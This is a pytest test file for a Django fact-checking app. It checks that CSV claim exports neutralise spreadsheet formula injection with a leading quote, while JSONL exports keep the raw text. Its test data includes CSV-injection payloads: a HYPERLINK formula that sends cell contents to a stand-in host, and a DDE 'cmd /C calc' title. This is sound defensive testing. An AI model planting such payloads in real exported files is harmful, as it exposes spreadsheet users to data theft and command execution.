"""CSV exports cannot carry a spreadsheet formula; JSON Lines stays as the text was."""

import csv
import io
import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse

from factcheck.export import spreadsheet_safe
from tests.builders import make_article, make_claim

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3 cmd",
    "@SUM(1,1)",
    "\tTab first",
    "\rReturn first",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Trade hit $68.7B", "", "a=b", "'quoted", 5, -5, 0.5, None])
def test_other_cells_are_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def hostile_claims():
    article = make_article(" ".join(HOSTILE), title="=cmd|' /C calc'!A0")
    return [make_claim(article, text) for text in HOSTILE]


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_desk_csv_export_is_safe_for_spreadsheets(editor_client, hostile_claims):
    response = editor_client.get(reverse("factcheck:claim-export"))
    exported = rows(b"".join(response.streaming_content).decode())
    assert sorted(r["text"] for r in exported) == sorted("'" + t for t in HOSTILE)
    assert {r["article_title"] for r in exported} == {"'=cmd|' /C calc'!A0"}


def test_export_claims_csv_is_safe_for_spreadsheets(hostile_claims):
    out = StringIO()
    call_command("export_claims", "--format", "csv", stdout=out, stderr=StringIO())
    exported = rows(out.getvalue())
    assert sorted(r["text"] for r in exported) == sorted("'" + t for t in HOSTILE)
    assert {r["article_title"] for r in exported} == {"'=cmd|' /C calc'!A0"}


def test_export_claims_jsonl_stays_raw(hostile_claims):
    out = StringIO()
    call_command("export_claims", "--format", "jsonl", stdout=out, stderr=StringIO())
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert sorted(r["text"] for r in records) == sorted(HOSTILE)
    assert {r["article_title"] for r in records} == {"=cmd|' /C calc'!A0"}
